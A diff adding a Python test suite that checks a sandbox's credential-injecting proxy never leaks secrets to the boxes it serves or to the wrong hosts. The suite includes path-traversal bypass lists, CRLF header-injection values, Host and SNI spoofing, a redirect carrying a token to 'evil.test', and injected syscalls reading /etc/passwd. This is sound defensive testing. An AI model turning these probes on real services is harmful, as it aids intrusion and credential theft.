@@ -1,0 +1,627 @@
+"""F: credentials that a box uses and never sees. The decoy is in each of them, and every byte that comes out of a
+box is searched for it (rig.search), in plain and in base64; so is the memory of what runs inside."""
+import base64
+import errno
+import hashlib
+import os
+import pathlib
+import re
+import resource
+import signal
+import subprocess
+import urllib.parse
+
+from door_ground import OK, ground
+from rig import NotApplicable, case, need, wait_until
+
+
+def carries(g, name):
+    return g.net.secret(name).encode() in g.raw.all() + g.evil.all()
+
+
+def no_credential(g, *services):
+    for service in services or (g.raw, g.evil):
+        need(not any(n in service.all() for n in g.rig.needles), f"a credential went out: {service.all()[:200]!r}")
+
+
+REACH = "say(https(host, tls, get(path, '%s:%d' % (host, tls), *more, method=method), 6))"
+
+
+def clear(g):
+    g.raw.clear()
+    g.evil.clear()
+
+
+def reach(g, host, path="/", more=(), method="GET", box=None):
+    return g.run(REACH, box, host=host, path=path, more=list(more), method=method, tls=g.raw.tls_port)
+
+
+# ---- F1: nowhere in the box ----
+
+@case("F1_used_and_not_seen", "F1", "a credential reaches its host, and is in no variable, file or memory of the box")
+def used(rig):
+    g = ground(rig)
+    g.raw.clear()
+    for host, name in (("api.test", "API"), ("query.test", "QUERY")):
+        got = reach(g, host, "/used")
+        need(" 200 " in got[:20], f"{host}: {got[:200]}")
+        need(carries(g, name), f"{host} did not get its credential")
+    basic = base64.b64encode(b"agent:" + g.net.secret("BASIC").encode())
+    reach(g, "basic.test", "/used")
+    need(b"Authorization: Basic " + basic in g.raw.all(), "basic.test did not get its credential")
+    return f"{g.search_memory(g.box) >> 20} MiB of memory searched"
+
+
+@case("F1_while_under_way", "F1", "nor while the request is under way")
+def under_way(rig):
+    g = ground(rig)
+    g.raw.clear(lambda conn, data: conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nfive"))
+    client = g.start("s = secure('api.test', tls); s.sendall(get('/slow', 'api.test:%d' % tls)); "
+                     "print(read_all(s, 20, until=b'five')[0][:12], flush=True); sys.stdin.readline()", tls=g.raw.tls_port)
+    try:
+        need(b"200" in client.stdout.readline(), "the request did not pass")
+        size = g.search_memory(g.box)
+    finally:
+        client.kill()
+        client.communicate()
+        g.raw.clear()
+    return f"{size >> 20} MiB"
+
+
+@case("F1_environment_and_files", "F1", "no variable and no file of the box has it, for any process")
+def environment(rig):
+    g = ground(rig)
+    reach(g, "api.test")
+    got = g.run("""
+import glob
+found, read = [], 0
+for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
+    if p == '/proc/%d/cmdline' % os.getpid(): continue
+    try: data = open(p, 'rb').read()
+    except OSError: continue
+    read += 1
+    if b'sk-' in data and b'DECOY' in data: found.append(p)
+for top in ('/etc', '/tmp', '/run', '/home', '/root', '/dev/shm', '/var/tmp'):
+    for d, _, files in os.walk(top):
+        for f in files:
+            try:
+                with open(os.path.join(d, f), 'rb') as h: data = h.read(1 << 20)
+            except OSError: continue
+            read += 1
+            if b'sk-api' in data or b'DECOY' in data and b'sk-' in data: found.append(os.path.join(d, f))
+say([read, found])""")
+    need(got[0] > 0 and not got[1], f"{got}")
+
+
+@case("F1_not_in_what_cove_says", "F1", "not in inspect, events, stats, policy show, audit, secret ls, ps, logs or doctor")
+def said(rig):
+    g = ground(rig)
+    reach(g, "api.test")
+    before = len(rig.leaks)
+    for words in (("inspect", g.box), ("stats", "--json", g.box), ("policy", "show", g.box), ("audit", g.box),
+                  ("audit", "--json", g.box), ("audit", "verify"), ("secret", "ls"), ("secret", "ls", "--json"),
+                  ("ps", "--json", g.box), ("ls", "--json"), ("logs", g.box), ("doctor", "--no-test"), ("asks",)):
+        rig.cove(*words, timeout=120)
+    need(len(rig.leaks) == before, f"in the output of {rig.leaks[before:]}")
+
+
+@case("F1_errors_do_not_tell", "F1", "an error on the way (no server, bad certificate, bad answer) does not tell it")
+def errors(rig):
+    g = ground(rig)
+    closed = g.net.new_tcp(lambda conn: None)
+    closed.stop()
+    for answer in (b"HTTP/1.1 99 x\r\n\r\n", b"garbage\r\n\r\n"):
+        g.raw.clear(answer)
+        reach(g, "api.test")
+    g.raw.clear()
+    g.run("say([https('api.test', port, get('/', 'api.test:%d' % port), 8), proxy(get('http://api.test:%d/' % port, 'api.test:%d' % port))])",
+          port=closed.port)
+    g.rows(g.box)
+
+
+# ---- what comes back ----
+
+def echo_all(conn, data):
+    """Every value that came, in every place of the answer."""
+    head = data.split(b"\r\n\r\n")[0]
+    lines = [line.split(b": ", 1)[-1] for line in head.split(b"\r\n")]
+    values = lines + [head.split(b" ")[1]]
+    for v in list(values):
+        if v.startswith(b"Basic "):
+            values.append(base64.b64decode(v[6:]))
+        if b"key=" in v:
+            values.append(v.split(b"key=")[1].split(b" ")[0].split(b"&")[0])
+        if v.startswith(b"Bearer "):
+            values.append(v[7:])
+    forms = []
+    for v in values:
+        forms += [v, b"'" + v + b"'", base64.b64encode(v), base64.b64encode(b"x" + v), base64.b64encode(b"xy" + v),
+                  base64.urlsafe_b64encode(v), urllib.parse.quote_from_bytes(v, safe="").encode(),
+                  b"token=" + v + b"; Path=/"]
+    return forms
+
+
+def answer_with(forms, how):
+    body = b"\n".join(forms)
+    fields = b"".join(b"X-Echo-%d: %s\r\n" % (i, f) for i, f in enumerate(forms))
+    text = b"Content-Type: text/plain\r\n"
+    if how == "heads":
+        return b"HTTP/1.1 200 OK\r\n" + fields + b"Content-Length: 0\r\n\r\n"
+    if how == "body":
+        return b"HTTP/1.1 200 OK\r\n" + text + b"Content-Length: %d\r\n\r\n" % len(body) + body
+    if how in ("json", "html", "xml", "form", "event-stream", "javascript"):
+        kinds = {"json": b"application/json", "html": b"text/html; charset=utf-8", "xml": b"application/xml",
+                 "form": b"application/x-www-form-urlencoded", "event-stream": b"text/event-stream",
+                 "javascript": b"application/javascript"}
+        return (b"HTTP/1.1 200 OK\r\nContent-Type: " + kinds[how] + b"\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
+    if how == "no_type":
+        return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body
+    if how == "until_close":
+        return b"HTTP/1.1 200 OK\r\n" + text + b"Connection: close\r\n\r\n" + body
+    if how == "chunks":
+        parts = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 7]), body[i:i + 7]) for i in range(0, len(body), 7))
+        return b"HTTP/1.1 200 OK\r\n" + text + b"Transfer-Encoding: chunked\r\n\r\n" + parts + b"0\r\n\r\n"
+    if how == "trailers":
+        return (b"HTTP/1.1 200 OK\r\n" + text + b"Transfer-Encoding: chunked\r\n\r\n3\r\nok\n\r\n0\r\n" + fields + b"\r\n")
+    if how == "early_hints":
+        return b"HTTP/1.1 103 Early Hints\r\n" + fields + b"\r\n" + OK
+    if how == "reason":
+        return b"HTTP/1.1 200 " + forms[-1] + b"\r\nContent-Length: 0\r\n\r\n"
+    if how == "redirect":
+        return b"HTTP/1.1 302 Found\r\nLocation: https://evil.test/?t=" + forms[-8] + b"\r\nContent-Length: 0\r\n\r\n"
+    if how == "partial":
+        return (b"HTTP/1.1 206 Partial\r\n" + text + b"Content-Range: bytes 0-%d/%d\r\nContent-Length: %d\r\n\r\n"
+                % (len(body) - 1, len(body), len(body)) + body)
+    if how == "field_names":
+        return b"HTTP/1.1 200 OK\r\n" + forms[-8].replace(b"=", b"") + b": 1\r\nContent-Length: 0\r\n\r\n"
+    raise KeyError(how)
+
+
+def echoed(how):
+    @case(f"F5_echo_in_{how.replace('-', '_')}", "F1", "an upstream that sends the credential back does not bring it into the box")
+    def run(rig):
+        g = ground(rig)
+        sent = []
+
+        def answer(conn, data):
+            forms = echo_all(conn, data)
+            sent.append(data)
+            conn.sendall(answer_with(forms, how))
+            if how == "until_close":
+                conn.close()
+        before = len(rig.leaks)
+        for host in ("api.test", "basic.test", "query.test"):
+            g.raw.clear(answer)
+            got = reach(g, host, "/echo?a=b")
+            need(got, f"{host}: no answer at all")
+        g.raw.clear()
+        need(len(sent) == 3, f"{len(sent)} requests came")
+        need(all(any(n in d for n in rig.needles) for d in sent), "no credential was sent: nothing was tried")
+        need(len(rig.leaks) == before, f"it came back into the box: {rig.leaks[before:]}")
+
+
+for _how in ("heads", "body", "json", "html", "xml", "form", "event-stream", "javascript", "no_type", "until_close", "chunks",
+             "trailers", "early_hints", "reason", "redirect", "partial", "field_names"):
+    echoed(_how)
+
+
+@case("F5_no_compression_where_injected", "F1", "Accept-Encoding is narrowed, so that an echo cannot hide in gzip")
+def compression(rig):
+    g = ground(rig)
+    g.raw.clear()
+    reach(g, "api.test", more=["Accept-Encoding: gzip, br, zstd", "Accept_Encoding: gzip"])
+    sent = g.raw.all().lower()
+    need(b"gzip" not in sent and b"br," not in sent, f"{sent[:300]!r}")
+
+
+@case("F5_ranges_do_not_cut_it", "F1", "a credential cannot be read in halves by ranges of an echo")
+def ranges(rig):
+    g = ground(rig)
+    value = g.net.secret("API").encode()
+
+    def answer(conn, data):
+        half = value[:len(value) // 2] if b"/first" in data else value[len(value) // 2:]
+        conn.sendall(b"HTTP/1.1 206 Partial\r\nContent-Type: text/plain\r\nContent-Range: bytes 0-9/99\r\n"
+                     b"Content-Length: %d\r\n\r\n" % len(half) + half)
+    g.raw.clear(answer)
+    got = [reach(g, "api.test", p, ["Range: bytes=0-20"]) for p in ("/first", "/second")]
+    sent = g.raw.all()
+    g.raw.clear()
+    # Halves cannot be known for what they are: so a Range must not be sent on where something is injected.
+    need(b"Range:" not in sent or not all(got), f"Range was sent on: {sent[:200]!r}")
+
+
+def websocket(name, held, in_head):
+    @case(f"F5_websocket_{name}", "F1", held)
+    def run(rig):
+        g = ground(rig)
+
+        def answer(conn, data):
+            key = re.search(rb"Sec-WebSocket-Key: (\S+)", data, re.I)
+            word = base64.b64encode(hashlib.sha1((key[1] if key else b"") + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
+            auth = re.search(rb"Authorization: (.*)\r\n", data)
+            value = auth[1] if auth else b"none"
+            conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nX-Echo: " +
+                         (value if in_head else b"no") + b"\r\nSec-WebSocket-Accept: " + word + b"\r\n\r\n" +
+                         (b"" if in_head else b"\x81" + bytes([min(len(value), 125)]) + value[:125]))
+        g.raw.clear(answer)
+        before = len(rig.leaks)
+        got = g.run("""
+s = secure('api.test', tls)
+s.sendall(('GET /ws HTTP/1.1\\r\\nHost: api.test:%d\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n'
+           'Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\\r\\n\\r\\n' % tls).encode())
+say(read_all(s, 4)[0])""", tls=g.raw.tls_port)
+        sent = g.raw.all()
+        g.raw.clear()
+        need(any(n in sent for n in rig.needles) and " 101 " in got[:20], f"nothing was tried: {got[:100]}")
+        need(len(rig.leaks) == before, "it came back into the box")
+
+
+websocket("head", "a WebSocket handshake with a credential does not bring it back in the answer's head", True)
+websocket("frame", "nor does the first frame of the server", False)
+
+
+# ---- F3, F4: who gets it ----
+
+@case("F3_plain_http", "F3", "without TLS a request to such a host is refused, directly and through the proxy")
+def plain_http(rig):
+    g = ground(rig)
+    g.raw.clear()
+    got = g.run("say([status(talk('api.test', port, get('/', 'api.test:%d' % port))), status(proxy(get('http://api.test:%d/' % port, "
+                "'api.test:%d' % port)))])", port=g.raw.port)
+    need(got == [403, 403], f"{got}")
+    need(not g.raw.all().strip(b"-\n"), "it was sent on")
+
+
+@case("F3_plain_http_where_asked_for", "F3", "a rule that says plain_http does send it: the control of the case before")
+def plain_where_asked(rig):
+    g = ground(rig)
+    g.raw.clear()
+    got = g.run("say(status(talk('plain.test', port, get('/', 'plain.test:%d' % port))))", port=g.raw.port)
+    need(got == 200 and carries(g, "PLAIN"), f"{got}")
+
+
+@case("F4_host_of_another", "F4", "the Host of a credential's rule on a connection to another host gets none")
+def host_of_another(rig):
+    g = ground(rig)
+    clear(g)
+    got = g.run("""
+h = 'api.test:%d' % tls
+say([status(https('evil.test', tls, get('/', h))), status(https('evil.test', tls, get('/', 'api.test'))),
+     status(https('evil.test', tls, get('https://%s/' % h, h))), status(https('evil.test', tls, get('/', 'evil.test:%d' % tls, 'X-Forwarded-Host: api.test')))])""",
+                tls=g.evil.tls_port)
+    need(got[:3] == [421, 421, 421] or all(400 <= s < 500 for s in got[:3]), f"{got}")
+    no_credential(g)
+
+
+@case("F4_sni_of_another", "F4", "nor does its SNI")
+def sni_of_another(rig):
+    g = ground(rig)
+    clear(g)
+    got = g.run("say(https('evil.test', tls, get('/', 'api.test:%d' % tls), 6, sni='api.test', verify=False))", tls=g.evil.tls_port)
+    need(" 200 " not in got[:20], f"{got[:100]}")
+    no_credential(g)
+
+
+@case("F4_name_at_another_server", "F4", "a server that cannot prove the name gets no credential, wherever its address comes from")
+def unproven(rig):
+    g = ground(rig)
+    clear(g)
+    got = g.run("say(https('api.test', tls, get('/', 'api.test:%d' % tls), 6))", tls=g.evil.tls_port)
+    need(got[9:12] in ("502", "403"), f"{got}")
+    no_credential(g, g.evil)
+
+
+@case("F4_redirect_to_another_host", "F4", "a redirect elsewhere is the client's: what follows it has no credential")
+def redirect(rig):
+    g = ground(rig)
+    g.evil.clear()
+    g.raw.clear(b"HTTP/1.1 307 Away\r\nLocation: https://evil.test:%d/loot\r\nContent-Length: 0\r\n\r\n" % g.evil.tls_port)
+    got = g.run("""
+import urllib.request
+try: say(urllib.request.build_opener(urllib.request.ProxyHandler({})).open('https://api.test:%d/' % tls, timeout=10).status)
+except OSError as e: say(str(e))""", tls=g.raw.tls_port)
+    g.raw.clear()
+    need(b"/loot" in g.evil.all(), f"the redirect was not followed: {got}")
+    no_credential(g, g.evil)
+
+
+@case("F4_own_fields_are_removed", "F4", "a field of the same name that the box sends is replaced, however it is spelled")
+def own_fields(rig):
+    g = ground(rig)
+    g.raw.clear()
+    reach(g, "api.test", more=["Authorization: Bearer mine", "AUTHORIZATION: mine2", "authorization: mine3"])
+    reach(g, "query.test", "/x?key=mine&a=b&k%65y=mine2&key=mine3;key=mine4")
+    sent = g.raw.all()
+    need(b"mine" not in sent and carries(g, "API") and carries(g, "QUERY"), f"{sent[:600]!r}")
+
+
+@case("F4_response_cookie_of_host", "F4", "a kept connection of one request is not used for another host's")
+def kept(rig):
+    g = ground(rig)
+    clear(g)
+    got = g.run("""
+s = secure('raw.test', tls)
+out = []
+for h in ('raw.test', 'api.test', 'raw.test'):
+    try:
+        s.sendall(('GET /%s HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (h, h, tls)).encode())
+        out.append(status(read_all(s, 3, most=10)[0]))
+    except OSError: out.append(0)
+say(out)""", tls=g.raw.tls_port)
+    need(got[0] == 200 and got[1] in (421, 0), f"{got}")
+    no_credential(g)
+
+
+# ---- F6: near misses ----
+
+MISSES = ["/v1/../admin", "/v1/chat/../../admin", "/v1/chat/%2e%2e/%2e%2e/admin", "/v1/chat/..%2f..%2fadmin", "//v1/models",
+          "/v1//models", "/v1/models/", "/V1/models", "/v1/Models", "/v1/models;x", "/v1/models%3bx", "/v1/models%00",
+          "/v1/models/../admin", "/v1/chat/%252e%252e/%252e%252e/admin", "/v1/chat/..;/..;/admin", "/v1/chat\\..\\..\\admin",
+          "/v1/chat/%5c..%5c..%5cadmin", "/v1/chat/./../../admin", "/v1/chat/.%2e/.%2e/admin", "/v1/chat/%c0%ae%c0%ae/admin",
+          "/v1/chatx", "/v1/modelsx", "/v1/model", "/", "/v1", "/v1/", "/v1/chat", "/admin", "/admin?/v1/models",
+          "/admin#/v1/models", "/v1/models%2f..%2fadmin", "/v1/chat/..", "/../v1/models/../../admin", "/v1/chat/%ff/../../admin",
+          "/%76%31/%61dmin", "/v1/models%20", "/v1/models.", "/v1/chat/../models/../../admin"]
+
+
+@case("F6_paths", "F6", "no path outside the rule is let through, whichever way it is spelled; what passes is sent as judged")
+def near_paths(rig):
+    g = ground(rig)
+    g.raw.clear()
+    got = g.run("say({p: status(https('paths.test', tls, get(p, 'paths.test:%d' % tls), 5)) for p in paths})", paths=MISSES,
+                tls=g.raw.tls_port)
+    sent = [m.decode() for m in re.findall(rb"GET (\S+) HTTP/1.1", g.raw.all())]
+    outside = [p for p in sent if p != "/v1/models" and not p.startswith("/v1/chat/") or ".." in p or "%" in p or ";" in p]
+    need(not outside, f"sent on: {outside}")
+    need("/admin" not in g.raw.all().decode("latin-1"), "an admin path came through")
+    passed = {p: s for p, s in got.items() if s == 200}
+    need(set(passed) <= {"//v1/models", "/v1//models", "/v1/chat/", "/v1/chat/.."}, f"let through: {passed}")
+    return f"{len(MISSES)} paths, {len(passed)} the same as a path of the rule"
+
+
+@case("F6_methods", "F6", "no other method, nor one in disguise")
+def near_methods(rig):
+    g = ground(rig)
+    g.raw.clear()
+    got = g.run("""
+h = 'paths.test:%d' % tls
+def one(method, *more): return status(https('paths.test', tls, get('/v1/models', h, *more, method=method), 5))
+say([one(m) for m in ('POST', 'get', 'Get', 'HEAD', 'DELETE', 'GETX', 'PUT', 'PATCH', 'PROPFIND')] +
+    [one('GET', 'X-HTTP-Method-Override: DELETE'), one('GET', 'X-Method-Override: DELETE'), one('GET', 'X-Original-URL: /admin'),
+     one('GET', 'X-Rewrite-URL: /admin'), one('GET', 'X_HTTP_METHOD: DELETE')])""", tls=g.raw.tls_port)
+    need(all(s in (400, 403, 501) for s in got[:9]), f"{got}")
+    sent = g.raw.all()
+    need(b"DELETE" not in sent and b"/admin" not in sent, f"{sent[:400]!r}")
+
+
+@case("F6_hosts", "F6", "no near name gets it: a longer, a shorter, a parent, a child, another case with another port")
+def near_hosts(rig):
+    g = ground(rig)
+    g.raw.clear()
+    got = g.run("""
+out = {}
+for h in ('apiXtest', 'xapi.test', 'api.test.evil.test', 'a.api.test', 'api.tes', 'test', 'api.testx', 'api-test', 'api.test.', 'API.TEST'):
+    out[h] = status(https(h, tls, get('/', '%s:%d' % (h, tls)), 5, sni=h.rstrip('.'), verify=False))
+say(out)""", tls=g.raw.tls_port)
+    let = {h for h, s in got.items() if s == 200}
+    need(let <= {"api.test.", "API.TEST"}, f"{got}")
+
+
+# ---- F7: whose it is ----
+
+@case("F7_nothing_to_steal", "F7", "nothing in a box identifies it to its door: what it has leads nowhere in another box")
+def nothing_to_steal(rig):
+    g = ground(rig)
+    look = "say(sorted((k, v) for k, v in os.environ.items() if 'proxy' in k.lower() or 'cove' in k.lower() or 'token' in k.lower()))"
+    with g.own_box([{"allow": "evil.test", "tls": "intercept"}]) as other:
+        mine, theirs = g.run(look), g.run(look, other)
+        need([v for k, v in mine if "proxy" in k.lower()] == [v for k, v in theirs if "proxy" in k.lower()],
+             "the proxy variables of two boxes differ")
+        need(not any("@" in v for _, v in mine), "a proxy variable has user information")
+        clear(g)
+        got = g.run("""
+h = 'api.test:%d' % tls
+say([status(https('api.test', tls, get('/', h))), status(proxy(b'CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\nProxy-Authorization: Basic eDp5\\r\\nX-Cove-Box: other\\r\\n\\r\\n' % (h.encode(), h.encode())))])""",
+                    other, tls=g.raw.tls_port)
+        need(got[0] == 0 and got[1] == 403, f"{got}")
+        no_credential(g)
+
+
+@case("F7_other_box_does_not_inherit", "F7", "a rule's answer, grant or connection of one box says nothing for another")
+def not_inherited(rig):
+    g = ground(rig)
+    with g.own_box([{"allow": "evil.test", "tls": "intercept"}]) as one, g.own_box([{"deny": "pass.test"}]) as other:
+        rig.cove("allow", one, "pass.test").ok()
+        got = g.run("say(lookup('pass.test')[0])", other)
+        need(got == 5, f"{got}")
+
+
+# ---- F9 ----
+
+@case("F9_rotation", "F9", "a rotated credential is used by the next request, also on an open connection; the old one is not")
+def rotation(rig):
+    g = ground(rig)
+    old = g.net.secret("API")
+    new = old.replace("sk-api", "sk-new")
+    g.raw.clear()
+    client = g.start("""
+s = secure('api.test', tls)
+for i in range(2):
+    s.sendall(('GET /%d HTTP/1.1\\r\\nHost: api.test:%d\\r\\n\\r\\n' % (i, tls)).encode())
+    print(status(read_all(s, 8, until=b'ok\\n')[0]), flush=True)
+    sys.stdin.readline()
+""", tls=g.raw.tls_port)
+    try:
+        need(client.stdout.readline() == b"200\n", "the first request did not pass")
+        rig.cove("secret", "set", "API", input=new.encode()).ok()
+        client.stdin.write(b"\n")
+        client.stdin.flush()
+        need(client.stdout.readline() == b"200\n", "the second request did not pass")
+        sent = g.raw.all()
+        first, second = sent.index(b"GET /0"), sent.index(b"GET /1")
+        need(old.encode() in sent[first:second] and new.encode() in sent[second:] and old.encode() not in sent[second:],
+             "the second request does not have the new credential alone")
+    finally:
+        client.kill()
+        client.communicate()
+        rig.cove("secret", "set", "API", input=old.encode()).ok()
+
+
+@case("F9_removed", "F9", "a credential that is gone is an error, never an empty field")
+def removed(rig):
+    g = ground(rig)
+    g.secrets("GONE")
+    with g.own_box([{"name": "gone", "allow": "api.test", "inject": {"headers": {"Authorization": "Bearer {{ secret.GONE }}"}}}]) as box:
+        need(" 200 " in reach(g, "api.test", box=box)[:20], "it did not pass to begin with")
+        rig.cove("secret", "rm", "GONE").ok()
+        g.raw.clear()
+        got = reach(g, "api.test", "/after", box=box)
+        need(" 502 " in got[:20] and b"/after" not in g.raw.all(), f"{got[:200]}")
+
+
+@case("F9_odd_values", "F9", "a credential with a line end in it cannot make a second field")
+def odd_values(rig):
+    g = ground(rig)
+    for value in ("DECOYa\r\nX-Evil: 1", "a\nX-Evil: 1", "a\0b", ""):
+        made = rig.cove("secret", "set", "ODD", input=value.encode())
+        if made.rc != 0:
+            made.refused()
+            continue
+        g.raw.clear()
+        path = g.policy([{"name": "odd", "allow": "raw.test", "inject": {"headers": {"X-Key": "{{ secret.ODD }}"}}}])
+        made = rig.cove("create", *rig.flags(), "--net", path)
+        if made.rc == 0:
+            reach(g, "raw.test", "/odd", box=made.text.strip())
+            rig.cove("rm", "-f", made.text.strip())
+        need(b"X-Evil" not in g.raw.all() and b"X-Key: \r\n" not in g.raw.all(), f"{value!r}: {g.raw.all()[:300]!r}")
+    rig.cove("secret", "rm", "ODD")
+
+
+@case("F9_from_arguments", "F9", "a value cannot be given as an argument, where everybody could read it")
+def from_arguments(rig):
+    rig.cove("secret", "set", "ARG", "value").refused()
+    need("ARG" not in rig.cove("secret", "ls", "-q").text.split(), "it was stored")
+
+
+# ---- F11, F12: the door itself ----
+
+def doors(g):
+    reach(g, "api.test")
+    pids = g.doors(g.box)
+    need(len(pids) >= 2, f"front and clerk were not found: {pids}")
+    return pids
+
+
+def field(pid, name):
+    for line in open(f"/proc/{pid}/status"):
+        if line.startswith(name + ":"):
+            return line.split(None, 1)[1].strip()
+    return None
+
+
+@case("F11_not_dumpable", "F11", "the door's processes cannot be read or traced by their own user")
+def not_dumpable(rig):
+    g = ground(rig)
+    if rig.is_root:
+        raise NotApplicable("root may read every process")
+    for pid in doors(g):
+        for name in ("mem", "environ", "maps", "auxv"):
+            try:
+                with open(f"/proc/{pid}/{name}", "rb") as f:
+                    f.read(1)
+                need(False, f"/proc/{pid}/{name} can be read")
+            except OSError:
+                pass
+        done = subprocess.run([rig.program, "--inject", str(pid)], input="39 0 0 0 0 0 0\n", capture_output=True, text=True,
+                              timeout=60)
+        need(done.returncode != 0, "it can be traced")
+
+
+@case("F11_confined", "F11", "the front has no capability, no new privileges, a system-call filter; neither leaves a core")
+def confined(rig):
+    g = ground(rig)
+    front, clerk = doors(g)[:2]
+    for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
+        value = int(field(front, name), 16)
+        need(value == 0 or name == "CapBnd" and not rig.is_root, f"{name} of the front is {value:x}")
+    need(field(front, "NoNewPrivs") == "1" and field(front, "Seccomp") == "2", "no filter")
+    for pid in (front, clerk):
+        try:
+            text = open(f"/proc/{pid}/limits").read()
+        except PermissionError:
+            continue
+        need(re.search(r"Max core file size\s+0\s+0", text), f"cores of {pid}: {text.splitlines()[5]}")
+
+
+@case("F11_front_calls", "F11", "a front that was taken over opens no file, starts no program, makes no Unix socket")
+def front_calls(rig):
+    g = ground(rig)
+    if not rig.is_root:
+        raise NotApplicable("only root can make the door do something")
+    from host_keeper import REFUSED, inject, name_of
+    front = doors(g)[0]
+    lines = [("openat", -100, f"={rig.cove.home}/secrets/API", 0), ("openat", -100, "=/etc/passwd", 0),
+             ("openat", -100, f"={rig.cove.home}", 0o200000), ("execve", "=/bin/true", 0, 0), ("fork",),
+             ("socket", 1, 1, 0), ("socket", 16, 3, 12), ("socket", 17, 3, 0), ("ptrace", 16, rig.canary.process.pid, 0, 0),
+             ("kill", rig.canary.process.pid, 0), ("mount", 0, 0, 0, 0, 0), ("unshare", 0x10000000), ("chroot", "=/"),
+             ("open", "=/etc/passwd", 0), ("unlink", "=/nowhere"), ("mkdir", "=/tmp/nowhere-x/y", 0)]
+    first = inject(rig, front, [("getpid",)])
+    need(first[0] == front, f"it says that it is {first[0]}")
+    values = inject(rig, front, lines)
+    let = [(line, name_of(v)) for line, v in zip(lines, values) if v not in REFUSED and v != -errno.EAFNOSUPPORT]
+    need(not let, f"it can: {let}")
+    g.works()
+    return f"{len(lines)} calls refused"
+
+
+@case("F11_memory_is_locked", "F11", "memory with credentials is locked, or status says that it cannot be")
+def locked(rig):
+    g = ground(rig)
+    front = doors(g)[0]
+    text = field(front, "VmLck")
+    soft, _ = resource.getrlimit(resource.RLIMIT_MEMLOCK)
+    if soft == 0:
+        raise NotApplicable("this caller may lock no memory")
+    need(text and int(text.split()[0]) > 0, f"VmLck {text}")
+    return text
+
+
+@case("F11_no_core_file", "F11", "a door that crashes leaves no core with a credential in it")
+def no_core(rig):
+    g = ground(rig)
+    with g.own_box(g.rules()) as box:
+        reach(g, "api.test", box=box)
+        for pid in g.doors(box):
+            try:
+                os.kill(pid, signal.SIGSEGV)
+            except OSError:
+                pass
+        wait_until(lambda: rig.answers(box), "the box to answer")
+        found = [str(p) for top in (rig.cove.home, str(rig.base)) for p in pathlib.Path(top).rglob("core*") if p.is_file()]
+        need(not found, f"{found}")
+        g.works(box)
+
+
+@case("F12_key_log", "F12", "a TLS key log that the environment asks for is not written")
+def key_log(rig):
+    g = ground(rig)
+    log = rig.base / "keys.log"
+    rig.cove.env.update({"SSLKEYLOGFILE": str(log), "OPENSSL_CONF": str(rig.base / "no.cnf")})
+    try:
+        with g.own_box(g.rules()) as box:
+            need(" 200 " in reach(g, "api.test", box=box)[:20], "nothing passed")
+    finally:
+        for name in ("SSLKEYLOGFILE", "OPENSSL_CONF"):
+            rig.cove.env.pop(name)
+    need(not log.exists(), "the keys were written")
+
+
+@case("F1_files_are_private", "F1", "what is stored is readable by its owner alone")
+def private_files(rig):
+    ground(rig)
+    top = pathlib.Path(rig.cove.home) / "secrets"
+    need(top.is_dir(), "no secrets directory")
+    for path in [top, *top.rglob("*")]:
+        need(path.stat().st_mode & 0o077 == 0, f"{path} is {path.stat().st_mode & 0o777:o}")
+    for path in pathlib.Path(rig.cove.home).glob("boxes/*/ca.pem"):
+        need(path.stat().st_mode & 0o077 == 0, f"{path} is {path.stat().st_mode & 0o777:o}")
